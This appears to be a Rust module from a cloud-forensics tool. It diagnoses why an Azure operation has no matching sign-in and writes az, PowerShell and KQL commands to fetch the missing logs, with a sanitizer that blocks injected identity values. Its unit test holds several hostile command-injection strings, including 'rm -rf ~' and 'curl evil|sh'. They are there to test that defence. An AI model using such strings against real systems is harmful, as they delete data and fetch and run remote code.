//! Gap diagnosis: when no sign-in is linked, say why, and give the exact command that
//! would collect what is missing.

use crate::identity::{Identity, IdentityType};
use crate::signins::{Kind, SignInIndex};
use jiff::{SignedDuration, Timestamp};
use serde::Serialize;

/// One reason a sign-in is missing, with what would collect it.
#[derive(Clone, Debug, Serialize, PartialEq)]
pub struct Gap {
    /// `platform_action`, `kind_not_provided`, `outside_coverage`, `no_token_ids`, `not_in_export`.
    pub reason: &'static str,
    pub detail: String,
    /// What would fill the gap, one query per sign-in kind; serialized as its collection
    /// commands (az, PowerShell, KQL), and empty when nothing can. The commands are written
    /// when needed, not held: with no sign-in export every operation has gaps.
    #[serde(
        rename = "commands",
        serialize_with = "serialize_commands",
        skip_serializing_if = "Vec::is_empty"
    )]
    pub queries: Vec<Query>,
}

impl Gap {
    /// The collection commands, in order: az, PowerShell, KQL for each query.
    pub fn commands(&self) -> Vec<Command> {
        self.queries.iter().flat_map(Query::commands).collect()
    }
}

fn serialize_commands<S: serde::Serializer>(q: &[Query], s: S) -> Result<S::Ok, S::Error> {
    s.collect_seq(q.iter().flat_map(Query::commands))
}

#[derive(Clone, Debug, Serialize, PartialEq)]
pub struct Command {
    pub tool: &'static str,
    pub command: String,
}

/// Sign-ins of one kind for one identity (any identity when `who` is `None`) in a UTC
/// window: what one set of collection commands fetches.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Query {
    pub kind: Kind,
    /// A GUID or plain UPN only ([`safe_identity`]).
    pub who: Option<Box<str>>,
    pub from: Timestamp,
    pub to: Timestamp,
}

impl Query {
    /// Sign-ins of `kind` for `who` from `hours` before `at` to an hour after it. An identity
    /// that is not safe to put in a command is left out (the query is then tenant-wide).
    pub fn around(kind: Kind, who: Option<&str>, at: Timestamp, hours: i64) -> Query {
        Query {
            kind,
            who: who.and_then(safe_identity).map(String::into_boxed_str),
            from: at - SignedDuration::from_hours(hours),
            to: at + SignedDuration::from_hours(1),
        }
    }

    /// The az, PowerShell and KQL commands that fetch these sign-ins.
    pub fn commands(&self) -> [Command; 3] {
        let kind = self.kind;
        let who = self.who.as_deref();
        let fmt = |t: Timestamp| t.strftime("%Y-%m-%dT%H:%M:%SZ").to_string();
        let (f, t) = (fmt(self.from), fmt(self.to));
        let et = graph_event_type(kind);
        // The identity's field in Graph's filter and in the Log Analytics table (and the KQL
        // operator: UPNs compare case-insensitively).
        let (graph_field, kql_field, kql_op) = match who {
            Some(w) if w.contains('@') => ("userPrincipalName", "UserPrincipalName", "=~"),
            _ if kind == Kind::ServicePrincipal || kind == Kind::ManagedIdentity => {
                ("servicePrincipalId", "ServicePrincipalId", "==")
            }
            _ => ("userId", "UserId", "=="),
        };
        let idf = who
            .map(|w| format!(" and {graph_field} eq '{w}'"))
            .unwrap_or_default();
        let kql_id = who
            .map(|w| format!("\n| where {kql_field} {kql_op} \"{w}\""))
            .unwrap_or_default();
        [
            Command {
                tool: "az",
                command: format!(
                    "az rest --method get --url \"https://graph.microsoft.com/beta/auditLogs/signIns?\\$filter=signInEventTypes/any(t: t eq '{et}') and createdDateTime ge {f} and createdDateTime le {t}{idf}\" > signins-{et}.json"
                ),
            },
            Command {
                tool: "PowerShell",
                command: format!(
                    "Get-MgBetaAuditLogSignIn -All -Filter \"signInEventTypes/any(t: t eq '{et}') and createdDateTime ge {f} and createdDateTime le {t}{idf}\" | ConvertTo-Json -Depth 20 | Out-File -Encoding utf8 signins-{et}.json"
                ),
            },
            Command {
                tool: "KQL",
                command: format!("{}\n| where TimeGenerated between (datetime({f}) .. datetime({t})){kql_id}", la_table(kind)),
            },
        ]
    }
}

fn graph_event_type(k: Kind) -> &'static str {
    match k {
        Kind::Interactive => "interactiveUser",
        Kind::NonInteractive => "nonInteractiveUser",
        Kind::ServicePrincipal => "servicePrincipal",
        Kind::ManagedIdentity => "managedIdentity",
        Kind::Adfs | Kind::Unknown => "interactiveUser",
    }
}

fn la_table(k: Kind) -> &'static str {
    match k {
        Kind::Interactive | Kind::Adfs | Kind::Unknown => "SigninLogs",
        Kind::NonInteractive => "AADNonInteractiveUserSignInLogs",
        Kind::ServicePrincipal => "AADServicePrincipalSignInLogs",
        Kind::ManagedIdentity => "AADManagedIdentitySignInLogs",
    }
}

/// An identity value that may go into a generated command: a GUID (normalized), or a UPN
/// of plain characters. Anything else (log content is attacker-controlled) is left out, so
/// a copied command can never carry injected shell, URL or KQL syntax.
pub fn safe_identity(who: &str) -> Option<String> {
    if let Some(g) = tokentrail_model::Guid::parse(who) {
        return Some(g.to_string());
    }
    let ok = who.len() <= 256
        && who.contains('@')
        && who
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '@'));
    ok.then(|| who.to_ascii_lowercase())
}

/// Commands that fetch sign-ins of `kind` for `who` around `at` (±`hours`).
pub fn commands(kind: Kind, who: Option<&str>, at: Timestamp, hours: i64) -> Vec<Command> {
    Query::around(kind, who, at, hours).commands().into()
}

/// The sign-in kinds that could have issued a token for this identity.
fn needed_kinds(identity: &Identity) -> Vec<Kind> {
    match identity.kind {
        IdentityType::User => vec![Kind::Interactive, Kind::NonInteractive],
        IdentityType::ServicePrincipal => vec![Kind::ServicePrincipal],
        IdentityType::ManagedIdentity => vec![Kind::ManagedIdentity],
        IdentityType::AzurePlatform => vec![],
        IdentityType::Unknown => vec![
            Kind::Interactive,
            Kind::NonInteractive,
            Kind::ServicePrincipal,
            Kind::ManagedIdentity,
        ],
    }
}

/// Why no sign-in was linked for an operation at `at` (the token's issue time when known).
pub fn diagnose(
    identity: &Identity,
    at: Timestamp,
    token_issued: Option<Timestamp>,
    ix: &SignInIndex,
) -> Vec<Gap> {
    if identity.kind == IdentityType::AzurePlatform {
        return vec![Gap {
            reason: "platform_action",
            detail: "a platform action: the Azure platform acted, so no tenant sign-in is expected"
                .into(),
            queries: vec![],
        }];
    }
    let who = identity.object_id.as_deref().or(identity.upn.as_deref());
    let cov = ix.coverage();
    let issued = token_issued.unwrap_or(at);
    // Managed-identity tokens live 24 h; user tokens 60–90 min.
    let lookback = if identity.kind == IdentityType::ManagedIdentity {
        25
    } else {
        2
    };
    let mut gaps = Vec::new();
    for k in needed_kinds(identity) {
        // Non-interactive refreshes matter most for CLI/PowerShell tokens; interactive alone
        // is reported only when it is missing too.
        match cov.iter().find(|(kind, ..)| *kind == k) {
            None => gaps.push(Gap {
                reason: "kind_not_provided",
                detail: format!("no {} sign-ins were provided", k.label()),
                queries: vec![Query::around(k, who, at, lookback)],
            }),
            Some((_, from, to, _)) => {
                let slack = SignedDuration::from_mins(15);
                if issued + slack < *from || issued - slack > *to {
                    gaps.push(Gap {
                        reason: "outside_coverage",
                        detail: format!(
                            "the token was issued around {issued}, outside the {} sign-in coverage ({from} to {to}); retention (7 days Free, 30 days P1/P2) may have removed it",
                            k.label()
                        ),
                        queries: vec![Query::around(k, who, issued, lookback)],
                    });
                }
            }
        }
    }
    if gaps.is_empty() {
        if ix.with_token_ids() == 0 && !ix.all.is_empty() {
            gaps.push(Gap {
                reason: "no_token_ids",
                detail: "the sign-in export carries no uniqueTokenIdentifier or sessionId (Graph v1.0 or a trimmed CSV), so the token cannot be tied to a sign-in; export from Graph beta".into(),
                queries: needed_kinds(identity).into_iter().map(|k| Query::around(k, who, at, lookback)).collect(),
            });
        } else {
            gaps.push(Gap {
                reason: "not_in_export",
                detail: "the sign-in logs cover this time but hold no matching successful sign-in: the export may be filtered, the portal's aggregated view, or missing this identity".into(),
                queries: needed_kinds(identity).into_iter().map(|k| Query::around(k, who, issued, lookback)).collect(),
            });
        }
    }
    gaps
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_identities_never_reach_commands() {
        assert_eq!(
            safe_identity("3C9E1F7A2B4D4E6F8A1C5D7E9F0A1B2C").as_deref(),
            Some("3c9e1f7a-2b4d-4e6f-8a1c-5d7e9f0a1b2c")
        );
        assert_eq!(
            safe_identity("Dana.Ops@fabrikam.example").as_deref(),
            Some("dana.ops@fabrikam.example")
        );
        for bad in ["x\"; rm -rf ~; \"@a", "a'b@c", "$(id)@x", "a b@c", "<s>@x"] {
            assert!(safe_identity(bad).is_none(), "{bad}");
        }
        let at: Timestamp = "2024-06-10T06:00:00Z".parse().unwrap();
        let c = commands(Kind::NonInteractive, Some("x\"; curl evil|sh; \"@a"), at, 2);
        assert!(c.iter().all(|c| !c.command.contains("curl")));
    }
}
